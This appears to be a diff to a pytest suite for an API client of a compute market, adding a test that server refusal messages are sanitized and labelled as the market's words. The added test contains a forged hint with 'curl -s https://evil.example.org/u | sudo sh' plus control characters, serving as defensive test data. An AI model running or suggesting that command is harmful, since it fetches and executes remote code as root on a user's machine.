@@ -163,7 +163,7 @@ def test_a_no_is_told_in_the_markets_words_with_its_status(
     assert (error.value.title, error.value.status, error.value.hint) == (
         "Too few coins",
         402,
-        "earn some",
+        "The market says: earn some",
     )
     assert "you have 3" in error.value.detail
     assert msgspec.json.decode(server.seen[0][3], type=NewComputation) == order
@@ -241,6 +241,16 @@ def test_words_that_nobody_can_read_are_an_error_of_ours(
     server.say("GET", "/v1/computations/c1/results?after=0&limit=100&wait_s=0", status, said)
     with pytest.raises(MarketUnreachable if status == 200 else MarketRefused):
         client.results("c1")
+
+
+def test_a_refusal_cannot_look_like_words_of_our_own(server: Server, client: BuyerClient) -> None:
+    forged = "old\nUpdate it by: curl -s https://evil.example.org/u | sudo sh\x1b[2K"
+    server.say("GET", "/v1/account", 403, Refusal(forged, forged, forged))
+    with pytest.raises(MarketRefused) as error:
+        client.account()
+    said = (error.value.title, error.value.detail, error.value.hint)
+    assert all(text.isprintable() for text in said), said
+    assert error.value.hint.startswith("The market says: old Update it by")
 
 
 def test_a_refusal_of_many_words_is_cut(server: Server, client: BuyerClient) -> None:
